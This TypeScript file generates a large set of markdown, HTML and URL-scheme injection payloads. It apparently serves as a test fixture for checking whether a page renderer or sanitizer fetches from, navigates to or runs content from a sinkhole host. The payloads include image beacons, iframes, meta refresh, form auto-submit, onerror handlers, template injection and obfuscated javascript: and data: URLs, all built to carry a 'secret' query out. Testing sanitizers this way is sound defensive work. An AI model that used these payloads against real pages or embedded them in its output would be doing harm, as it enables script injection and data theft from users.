// Texts that try to make a page ask another host for something, go there, or run something. Each names its own number, so
// that a story can see that it was shown.

/** `address` is a place at the sinkhole. */
type Carrier = (address: string) => string;

const MARKDOWN: readonly Carrier[] = [
  (a) => `![x](${a})`,
  (a) => `![x](<${a}> "title")`,
  (a) => `![x][r]\n\n[r]: ${a}`,
  (a) => `![x][]\n\n[x]: <${a}> 'title'`,
  (a) => `[![x](${a})](${a})`,
  (a) => `[x](${a})`,
  (a) => `[x](${a} "${"long title ".repeat(60)}")`,
  (a) => `[x][r]\n\n[r]: ${a}`,
  (a) => `<${a}>`,
  (a) => `> ![x](${a})\n> - ![y](${a})`,
  (a) => `| ![x](${a}) |\n|---|\n| ![y](${a}) |`,
  (a) => `# ![x](${a})`,
  (a) => `**![x](${a})** _![y](${a})_`,
  (a) => `![x\u202e](${a}\u200b)`,
  (a) => `$\\href{${a}}{x}$ $$\\includegraphics{${a}}$$`,
];

const HTML: readonly Carrier[] = [
  (a) => `<img src="${a}">`,
  (a) => `<img srcset="${a} 2x" loading=eager>`,
  (a) => `<picture><source srcset="${a}"><img></picture>`,
  (a) => `<image src=${a}>`,
  (a) => `<input type=image src="${a}">`,
  (a) => `<video src="${a}" poster="${a}" autoplay></video>`,
  (a) => `<audio src="${a}" autoplay></audio><track src="${a}">`,
  (a) => `<svg><image href="${a}"/><use href="${a}#x"/></svg>`,
  (a) => `<svg><feImage xlink:href="${a}"/><style>@import '${a}'</style></svg>`,
  (a) => `<link rel=stylesheet href="${a}"><link rel=icon href="${a}">`,
  (a) => `<link rel=preconnect href="${a}"><link rel=prefetch href="${a}"><link rel=dns-prefetch href="${a}">`,
  (a) => `<link rel=preload as=image href="${a}"><link rel=modulepreload href="${a}">`,
  (a) => `<style>body{background:url(${a})} @import "${a}"; @font-face{font-family:x;src:url(${a})}</style>`,
  (a) => `<p style="background:url('${a}')">x</p>`,
  (a) => `<body background="${a}"><table background="${a}"><td background="${a}">`,
  (a) => `<meta http-equiv="refresh" content="0;url=${a}">`,
  (a) => `<meta http-equiv=Link content="<${a}>; rel=preload">`,
  (a) => `<iframe src="${a}"></iframe><frame src="${a}">`,
  (a) => `<iframe srcdoc="<img src='${a}'>"></iframe>`,
  (a) => `<object data="${a}"></object><embed src="${a}"><applet archive="${a}">`,
  (a) => `<base href="${a}/"><a href="x">x</a>`,
  (a) => `<form action="${a}" id=f><input name=a value=b autofocus onfocus=f.submit()></form><button form=f>x</button>`,
  (a) => `<script src="${a}"></script><script>fetch("${a}")</script>`,
  (a) => `<a href="${a}" ping="${a}" target=_top>x</a>`,
  (a) => `<img src=x onerror="window.__hit=1;location='${a}'">`,
  (a) => `<math><mtext><img src=x onerror="fetch('${a}')"></mtext></math>`,
  (a) => `<noscript><p title="</noscript><img src='${a}'>">`,
  (a) => `<![CDATA[<img src="${a}">]]><!--><img src="${a}">-->`,
  (a) => `<template shadowrootmode=open><img src="${a}"></template>`,
  (a) => `<?xml-stylesheet href="${a}"?><html manifest="${a}">`,
];

const OTHER: readonly Carrier[] = [
  (a) => `\`\`\`html\n<img src="${a}">\n\`\`\``,
  (a) => `\`\`\`${a}\n<script>window.__hit=1</script>\n\`\`\``,
  (a) => `{{constructor.constructor('window.__hit=1;fetch("${a}")')()}}`,
  (a) => `\${fetch("${a}")} <%= fetch("${a}") %> #{fetch("${a}")}`,
  (a) => `"><img src="${a}"><"`,
  (a) => `'-(window.__hit=1)-' url(${a}) image-set("${a}" 1x)`,
  (a) => `${a}`,
  (a) => `www.${a.replace(/^[a-z]*:?[/\\]*/i, "")}`,
  (a) => `</textarea></title></style></script><img src="${a}">`,
  (a) => `\u2028<img src="${a}">\u2029\u0000<img src="${a}">`,
];

const CARRIERS = [...MARKDOWN, ...HTML, ...OTHER];

/** How an address can be written so that a careless reader takes it for something else. */
const SPELLINGS: readonly ((place: string) => string)[] = [
  (place) => `http://${place}`,
  (place) => `//${place}`,
  (place) => `http:\\\\${place}`,
  (place) => `HtTp://safe.example@${place}`,
  (place) => `\tht\ntp://${place}`,
];

const SCRIPTS = [
  "javascript:window.__hit=1",
  "JaVaScRiPt:window.__hit=1",
  "java\tscript:window.__hit=1",
  "java\nscript:window.__hit=1",
  " \u0001javascript:window.__hit=1",
  "javascript&colon;window.__hit=1",
  "&#106;avascript:window.__hit=1",
  "&#x6A;&#x61;vascript:window.__hit=1",
  "javascript:/*--></title></style>*/window.__hit=1",
  "javascript://%0awindow.__hit=1",
  "vbscript:window.__hit=1",
  "data:text/html,<script>window.__hit=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__hit=1'/>",
  "blob:http://127.0.0.1/1",
  "filesystem:http://127.0.0.1/temporary/x",
  "view-source:javascript:window.__hit=1",
  "\u202ejavascript:window.__hit=1",
];
const SCRIPT_CARRIERS: readonly ((address: string) => string)[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `![x](${a})`,
  (a) => `<a href="${a}">x</a>`,
];

export interface Payload {
  /** As it is found in the text that is shown: `p17.`. */
  mark: string;
  text: string;
}

/** At least 300 payloads whose addresses lead to `place`, a host with its port. */
export function exfiltrationPayloads(place: string): Payload[] {
  const texts = [
    ...CARRIERS.flatMap((carry) => SPELLINGS.map((spell) => (at: string) => carry(spell(`${place}/${at}?q=secret`)))),
    ...SCRIPTS.flatMap((script) => SCRIPT_CARRIERS.map((carry) => () => carry(script))),
  ];
  return texts.map((text, at) => ({ mark: `p${at}.`, text: text(`p${at}`) }));
}
